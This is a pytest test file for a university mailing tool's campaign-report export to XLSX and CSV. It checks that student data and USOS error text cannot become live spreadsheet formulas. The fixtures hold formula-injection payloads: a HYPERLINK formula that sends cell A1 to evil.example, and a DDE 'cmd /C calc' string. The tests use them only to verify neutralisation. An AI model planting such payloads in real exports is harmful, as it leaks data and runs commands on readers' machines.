"""Reports read back with openpyxl and csv: the right rows and columns, and no cell a
spreadsheet would run as a formula, whatever the students' data or USOS's errors say."""

from __future__ import annotations

import csv
import os
import stat
from collections.abc import Callable, Iterator
from pathlib import Path

import openpyxl
import pytest

from tests.helpers.campaigns import client_for, rows_failing, sent_campaign
from tests.helpers.tables import DEMO_COLUMNS
from usosmail_gui.core.journal import Journal, StatusUpdate
from usosmail_gui.core.polling import poll_once
from usosmail_gui.core.report import FIXED_COLUMNS, FORMULA_STARTS, ReportError, neutralise_csv, write_report
from usosmail_gui.sandbox import Sandbox

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+48 600 100 200",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
HOSTILE_ERROR = "=cmd|' /C calc'!A0"


@pytest.fixture
def journal() -> Iterator[Journal]:
    with Journal.open() as opened:
        yield opened


@pytest.fixture
def campaign(make_sandbox: Callable[..., Sandbox], journal: Journal) -> str:
    """Six students with hostile names, one failing domain, one hostile USOS error."""
    sb = make_sandbox()
    rows = rows_failing(len(HOSTILE), failing=(2,))
    for index, value in enumerate(HOSTILE):
        rows[index][4] = value  # "Kierunek" (not in the subject: a line break there is refused)
        rows[index][5] = value[::-1]  # "Rok": hostile characters at the end only (harmless)
    rows[0][1] = "Żółć-Ęą"  # Polish letters survive
    name = sent_campaign(journal, sb, rows)
    assert sb.wait_delivered(10)
    with client_for(sb) as client:
        assert poll_once(journal, client, name).all_finished
    hostile_id = journal.recipients(name)[3].message_id
    assert hostile_id
    journal.record_statuses(name, [StatusUpdate(hostile_id, "failed", HOSTILE_ERROR, True)])
    return name


def test_xlsx_report_has_every_column_and_no_formula(journal: Journal, campaign: str, tmp_path: Path) -> None:
    path = tmp_path / "raport.xlsx"
    assert write_report(journal, campaign, path) == len(HOSTILE)
    book = openpyxl.load_workbook(path)
    sheet = book.active
    assert sheet is not None
    rows = list(sheet.iter_rows())
    header = [c.value for c in rows[0]]
    assert header == [*DEMO_COLUMNS, *FIXED_COLUMNS]
    cells = [c for row in rows for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    body = [[c.value for c in row] for row in rows[1:]]
    # kept as text (XML reads a carriage return back as a line feed)
    assert [r[4] for r in body] == [v.replace("\r", "\n") for v in HOSTILE]
    assert body[0][1] == "Żółć-Ęą"
    status_at = len(DEMO_COLUMNS) + 2
    assert [r[status_at] for r in body] == ["sent", "sent", "failed", "failed", "sent", "sent"]
    assert body[3][status_at + 1] == HOSTILE_ERROR
    assert body[2][status_at + 1]  # the sandbox's reason for the failing domain
    assert all(r[status_at - 1] and r[status_at + 2] and r[status_at + 3] for r in body)  # ID, times
    about = {row[0].value: row[1].value for row in book["Campaign"].iter_rows()}
    assert about["Campaign"] == campaign and about["Counts"] == "4 sent, 2 failed"
    assert "is kept in the journal until" in about["Personal data"]
    book.close()


def test_csv_report_is_excel_ready_and_neutralised(journal: Journal, campaign: str, tmp_path: Path) -> None:
    path = tmp_path / "raport.csv"
    write_report(journal, campaign, path)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
    with path.open(encoding="utf-8-sig", newline="") as handle:
        lines = list(csv.reader(handle, delimiter=";"))
    rows, (blank, (note,)) = lines[:-2], lines[-2:]  # the table, then a line about the data
    assert blank == [] and "kept in the journal until" in note and "180 days after its last status" in note
    assert rows[0] == [*DEMO_COLUMNS, *FIXED_COLUMNS]
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert [r[4] for r in rows[1:]] == ["'" + v for v in HOSTILE]
    assert rows[1][1] == "Żółć-Ęą"
    assert rows[4][len(DEMO_COLUMNS) + 3] == "'" + HOSTILE_ERROR


def test_neutralise_csv() -> None:
    assert [neutralise_csv(v) for v in ("=1", "+1", "-1", "@a", "\t1", "\r1")] == [
        "'=1",
        "'+1",
        "'-1",
        "'@a",
        "'\t1",
        "'\r1",
    ]
    assert neutralise_csv("Anna") == "Anna" and neutralise_csv("") == "" and neutralise_csv("a=1") == "a=1"


def test_report_problems_in_plain_words(journal: Journal, campaign: str, tmp_path: Path) -> None:
    tmp_path = tmp_path / "out"
    tmp_path.mkdir()
    with pytest.raises(ReportError, match="no campaign"):
        write_report(journal, "no-such-campaign", tmp_path / "r.xlsx")
    with pytest.raises(ReportError, match="Cannot write"):
        write_report(journal, campaign, tmp_path / "missing-folder" / "r.csv")
    with pytest.raises(ReportError, match=r"\.xlsx or \.csv"):
        write_report(journal, campaign, tmp_path / "r.pdf")
    assert list(tmp_path.iterdir()) == []  # nothing half-written left behind


# --- the dean's report as a person reads it: language, dates, layout, permissions ------------


@pytest.fixture
def with_left_out(make_sandbox: Callable[..., Sandbox], journal: Journal) -> str:
    """Three students sent to the sandbox, one failing; a fourth row repeats an address
    and is left out (its reason is a translatable sentence)."""
    sb = make_sandbox()
    rows = rows_failing(3, failing=(1,))
    rows.append(list(rows[0]))  # the same address again: left out
    name = sent_campaign(journal, sb, rows)
    assert sb.wait_delivered(10)
    with client_for(sb) as client:
        assert poll_once(journal, client, name).all_finished
    return name


def _sheet_values(path: Path, sheet: str | None = None) -> list[list[object]]:
    book = openpyxl.load_workbook(path)
    chosen = book[sheet] if sheet else book.worksheets[0]
    values = [[c.value for c in row] for row in chosen.iter_rows()]
    book.close()
    return values


POLISH_COLUMNS = ["Wysłano do", "Identyfikator wiadomości", "Status", "Błąd", "Przyjęto", "Zakończono"]


def test_polish_report_speaks_polish_everywhere(journal: Journal, with_left_out: str, tmp_path: Path) -> None:
    from usosmail_gui.cli.statuses import report_translator

    path = tmp_path / "raport.xlsx"
    assert write_report(journal, with_left_out, path, lang="pl", translate=report_translator("pl")) == 4
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == [f"Kampania {with_left_out}"[:31], "Podsumowanie"]
    book.close()
    header, *body = _sheet_values(path)
    assert header[-6:] == POLISH_COLUMNS
    status_at = len(header) - 4
    assert [r[status_at] for r in body] == ["wysłana", "nieudana", "wysłana", "pominięty"]
    reason = str(body[3][status_at + 1])
    assert "wierszu 2" in reason and "already" not in reason, reason  # the app's reason in Polish
    summary = {row[0]: row[1] for row in _sheet_values(path, "Podsumowanie") if row and row[0]}
    assert summary["Kampania"] == with_left_out
    assert summary["Wiersze arkusza"] == 4
    assert (summary["wysłane"], summary["nieudane"], summary["pominięte wiersze"]) == (2, 1, 1)
    assert summary["Liczby"] == "2 wysłane, 1 nieudane, 1 pominięte wiersze"
    assert summary["Wiadomości"] == 3 and summary["Zakończone (USOS zakończył ich obsługę)"] == 3
    assert "przechowywane w dzienniku do" in str(summary["Dane osobowe"])


def test_english_report_is_unchanged_in_words(journal: Journal, with_left_out: str, tmp_path: Path) -> None:
    path = tmp_path / "report.xlsx"
    write_report(journal, with_left_out, path)
    header, *body = _sheet_values(path)
    assert header[-6:] == list(FIXED_COLUMNS)
    status_at = len(header) - 4
    assert [r[status_at] for r in body] == ["sent", "failed", "sent", "excluded"]
    assert "is already in row 2" in str(body[3][status_at + 1])
    summary = {row[0]: row[1] for row in _sheet_values(path, "Campaign") if row and row[0]}
    assert summary["Counts"] == "2 sent, 1 failed, 1 excluded" and summary["Rows of the sheet"] == 4
    # counted as the Statuses panel counts (core/counts.py): left-out rows are no messages
    assert summary["Messages"] == 3 and summary["Finished (USOS is done with them)"] == 3


def test_xlsx_times_are_dates_and_the_sheet_is_laid_out(
    journal: Journal, with_left_out: str, tmp_path: Path
) -> None:
    from datetime import datetime

    path = tmp_path / "report.xlsx"
    write_report(journal, with_left_out, path)
    book = openpyxl.load_workbook(path)
    sheet = book.worksheets[0]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, sheet.max_column).column_letter}5"
    assert all(c.font.b for c in sheet[1])
    enqueued = sheet.cell(2, sheet.max_column - 1)
    assert isinstance(enqueued.value, datetime) and enqueued.number_format == "yyyy-mm-dd hh:mm:ss"
    sent = journal.recipients(with_left_out)[0].enqueued_at
    assert sent is not None
    local = datetime.fromisoformat(sent).astimezone().replace(tzinfo=None, microsecond=0)
    assert enqueued.value == local  # local time, to the second
    assert sheet.cell(5, sheet.max_column - 1).value is None  # the left-out row: no time, not ""
    widths = {letter: dim.width for letter, dim in sheet.column_dimensions.items()}
    email_letter = sheet.cell(1, sheet.max_column - 5).column_letter
    assert widths[email_letter] >= len("student1@fail.example.com")
    assert all(2 < w <= 62 for w in widths.values())
    book.close()


@pytest.mark.skipif(not hasattr(os, "fchmod"), reason="POSIX permissions")
@pytest.mark.parametrize(("umask", "expected"), [(0o022, 0o644), (0o002, 0o664), (0o077, 0o600)])
def test_report_has_the_users_normal_permissions(
    journal: Journal, with_left_out: str, tmp_path: Path, umask: int, expected: int
) -> None:
    tmp_path = tmp_path / "shared"
    tmp_path.mkdir()
    old = os.umask(umask)
    try:
        for name in ("r.xlsx", "r.csv"):
            write_report(journal, with_left_out, tmp_path / name)
            assert stat.S_IMODE((tmp_path / name).stat().st_mode) == expected
    finally:
        os.umask(old)
    (tmp_path / "r.csv").chmod(0o640)  # a file the user set up: an export over it keeps its mode
    write_report(journal, with_left_out, tmp_path / "r.csv")
    assert stat.S_IMODE((tmp_path / "r.csv").stat().st_mode) == 0o640
    assert sorted(p.name for p in tmp_path.iterdir()) == ["r.csv", "r.xlsx"]  # no temporary left


def test_unknown_language_is_refused_in_plain_words(
    journal: Journal, with_left_out: str, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    out.mkdir()
    with pytest.raises(ReportError, match=r"Polish \(pl\) or English \(en\)"):
        write_report(journal, with_left_out, out / "r.csv", lang="de")
    assert list(out.iterdir()) == []


def test_cli_report_in_polish(
    journal: Journal, with_left_out: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from usosmail_gui.cli import main

    path = tmp_path / "raport.csv"
    assert main(["report", with_left_out, "--output", str(path), "--lang", "pl"]) == 0
    with path.open(encoding="utf-8-sig", newline="") as handle:
        lines = list(csv.reader(handle, delimiter=";"))
    assert lines[0][-6:] == POLISH_COLUMNS
    assert [line[-4] for line in lines[1:5]] == ["wysłana", "nieudana", "wysłana", "pominięty"]
    assert "przechowywane w dzienniku" in lines[-1][0]
    out = capsys.readouterr().out
    assert "(4 rows)" in out and "przechowywane w dzienniku" in out
